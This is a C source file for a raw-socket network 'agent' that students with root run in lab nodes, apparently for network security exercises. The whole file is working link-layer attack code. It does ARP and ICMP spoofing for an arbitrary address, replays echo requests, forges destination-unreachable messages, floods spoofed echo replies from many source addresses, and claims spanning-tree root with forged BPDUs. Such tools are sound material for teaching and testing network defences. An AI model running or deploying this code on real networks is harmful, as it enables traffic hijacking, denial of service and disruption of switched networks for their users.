/* What a student with root may run in a node, beyond what the kernel does for everybody: a program that sees all frames
 * of an interface and sends its own.  Static, so that it runs in any guest.
 *
 *   agent mimic IF ADDRESS   answers ARP requests and echo requests for that address, whoever has it
 *   agent replay IF ADDRESS  sends the last echo request for that address that it saw again and again
 *   agent forge IF           tells who sends an echo request that its destination is unreachable
 *   agent storm IF           sends each echo reply that it sees again, many times and from many addresses, and noise
 *   agent bpdu IF            claims to be the root of the spanning tree
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#define FRAME_MAX 1600
#define IP_AT 14
#define ICMP_AT 34 /* without IP options, as the probes are */
#define STORM 200  /* copies of one frame */
#define HELLO_US 500000

struct wire {
    int fd;
    uint8_t mac[6];
    uint8_t address[4]; /* the one to answer for */
};

static uint16_t checksum(const uint8_t *p, size_t n)
{
    uint32_t sum = 0;

    for (size_t i = 0; i < n; i++)
        sum += i % 2 == 0 ? (uint32_t)p[i] << 8 : p[i];
    while (sum >> 16 != 0)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static void put16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
}

/* Makes the sums of an IPv4 packet with ICMP in frame 'f' right. */
static void seal(uint8_t *f, size_t n)
{
    put16(f + IP_AT + 2, (uint16_t)(n - IP_AT));
    put16(f + IP_AT + 10, 0);
    put16(f + IP_AT + 10, checksum(f + IP_AT, ICMP_AT - IP_AT));
    put16(f + ICMP_AT + 2, 0);
    put16(f + ICMP_AT + 2, checksum(f + ICMP_AT, n - ICMP_AT));
}

static void swap(uint8_t *a, uint8_t *b, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        uint8_t t = a[i];

        a[i] = b[i];
        b[i] = t;
    }
}

static void send_frame(const struct wire *w, const uint8_t *f, size_t n)
{
    if (send(w->fd, f, n, 0) < 0) {
        perror("agent: send");
        exit(1);
    }
}

static bool is_icmp(const uint8_t *f, size_t n, uint8_t type)
{
    return n >= ICMP_AT + 8 && f[12] == 8 && f[13] == 0 && f[IP_AT] == 0x45 && f[IP_AT + 9] == IPPROTO_ICMP &&
           f[ICMP_AT] == type;
}

/* Turns the request in 'f' round. */
static void answer(const struct wire *w, uint8_t *f, size_t n)
{
    memcpy(f, f + 6, 6);
    memcpy(f + 6, w->mac, 6);
    swap(f + IP_AT + 12, f + IP_AT + 16, 4);
    f[ICMP_AT] = 0;
    seal(f, n);
    send_frame(w, f, n);
}

/* Is 'f' an ARP request for the address?  Then it is answered. */
static bool arp(const struct wire *w, uint8_t *f, size_t n)
{
    if (n < 42 || f[12] != 8 || f[13] != 6 || f[21] != 1 || memcmp(f + 38, w->address, 4) != 0)
        return false;
    memcpy(f, f + 6, 6);
    memcpy(f + 6, w->mac, 6);
    f[21] = 2;
    swap(f + 28, f + 38, 4);
    memcpy(f + 32, f + 22, 6);
    memcpy(f + 22, w->mac, 6);
    send_frame(w, f, n);
    return true;
}

static bool asks(const struct wire *w, const uint8_t *f, size_t n)
{
    return is_icmp(f, n, 8) && memcmp(f + IP_AT + 16, w->address, 4) == 0;
}

static void mimic(const struct wire *w, uint8_t *f, size_t n)
{
    if (!arp(w, f, n) && asks(w, f, n))
        answer(w, f, n);
}

/* Called for each frame, and with none every so often. */
static void replay(const struct wire *w, uint8_t *f, size_t n)
{
    static uint8_t last[FRAME_MAX];
    static size_t nlast;

    if (nlast > 0 && n == 0) {
        send_frame(w, last, nlast);
    } else if (asks(w, f, n)) {
        memcpy(last, f, n);
        nlast = n;
    }
}

/* RFC 792: destination unreachable, with the packet's head. */
static void forge(const struct wire *w, uint8_t *f, size_t n)
{
    enum { QUOTE = 28, ALL = ICMP_AT + 8 + QUOTE };
    uint8_t out[ALL];

    if (!is_icmp(f, n, 8))
        return;
    memcpy(out, f, IP_AT + 20);
    memset(out + ICMP_AT, 0, 8);
    memcpy(out + ICMP_AT + 8, f + IP_AT, QUOTE);
    memcpy(out, f + 6, 6);
    memcpy(out + 6, w->mac, 6);
    swap(out + IP_AT + 12, out + IP_AT + 16, 4);
    out[ICMP_AT] = 3;
    out[ICMP_AT + 1] = 1;
    seal(out, ALL);
    send_frame(w, out, ALL);
}

static void storm(const struct wire *w, uint8_t *f, size_t n)
{
    uint8_t gateway[6];

    if (!is_icmp(f, n, 0) || memcmp(f + 6, w->mac, 6) == 0)
        return;
    memcpy(gateway, f + 6, 6);
    for (int i = 0; i < STORM; i++) {
        memcpy(f + 6, w->mac, 6);
        f[IP_AT + 15] = (uint8_t)i; /* from another address */
        if (i % 2 == 1)             /* other content */
            f[ICMP_AT + 8 + i % 8] ^= (uint8_t)(1 + i);
        seal(f, n);
        send_frame(w, f, n);
    }
}

/* IEEE 802.1D-2004, section 9.3.1: a configuration message of bridge 0, priority 0. */
static void bpdu(const struct wire *w)
{
    static const uint8_t head[] = {0x01, 0x80, 0xc2, 0, 0, 0};
    uint8_t f[60] = {0};

    memcpy(f, head, sizeof head);
    memcpy(f + 6, w->mac, 6);
    put16(f + 12, 38);
    memcpy(f + 14, (const uint8_t[]){0x42, 0x42, 3}, 3);
    memcpy(f + 24, w->mac, 6); /* root: priority 0 */
    memcpy(f + 36, w->mac, 6); /* bridge */
    put16(f + 42, 0x8001);     /* port */
    put16(f + 46, 20 << 8);    /* max age, hello, forward delay: 1/256 s */
    put16(f + 48, 2 << 8);
    put16(f + 50, 15 << 8);
    for (;;) {
        send_frame(w, f, sizeof f);
        usleep(HELLO_US);
    }
}

static int wire_open(const char *name, struct wire *w)
{
    struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL)};
    struct packet_mreq all = {.mr_type = PACKET_MR_PROMISC};
    const struct timeval often = {0, 100000};
    socklen_t n = sizeof ll;

    all.mr_ifindex = ll.sll_ifindex = (int)if_nametoindex(name);
    w->fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
    if (w->fd < 0 || bind(w->fd, (const struct sockaddr *)&ll, sizeof ll) < 0 ||
        setsockopt(w->fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &all, sizeof all) < 0 ||
        setsockopt(w->fd, SOL_SOCKET, SO_RCVTIMEO, &often, sizeof often) < 0 ||
        getsockname(w->fd, (struct sockaddr *)&ll, &n) < 0) {
        perror("agent");
        return -1;
    }
    memcpy(w->mac, ll.sll_addr, sizeof w->mac);
    return 0;
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        void (*act)(const struct wire *w, uint8_t *f, size_t n);
    } acts[] = {{"mimic", mimic}, {"replay", replay}, {"forge", forge}, {"storm", storm}};
    struct wire w = {0};

    if (argc < 3 || wire_open(argv[2], &w) < 0 || (argc > 3 && inet_pton(AF_INET, argv[3], w.address) != 1))
        return 2;
    if (strcmp(argv[1], "bpdu") == 0)
        bpdu(&w);
    for (size_t i = 0; i < sizeof acts / sizeof acts[0]; i++)
        while (strcmp(argv[1], acts[i].name) == 0) {
            struct sockaddr_ll from = {0};
            socklen_t nfrom = sizeof from;
            uint8_t f[FRAME_MAX];
            ssize_t n = recvfrom(w.fd, f, sizeof f, 0, (struct sockaddr *)&from, &nfrom);

            if (n < 0 && errno != EAGAIN && errno != EINTR)
                return 1;
            if (from.sll_pkttype != PACKET_OUTGOING)
                acts[i].act(&w, f, n > 0 ? (size_t)n : 0);
        }
    return 2;
}
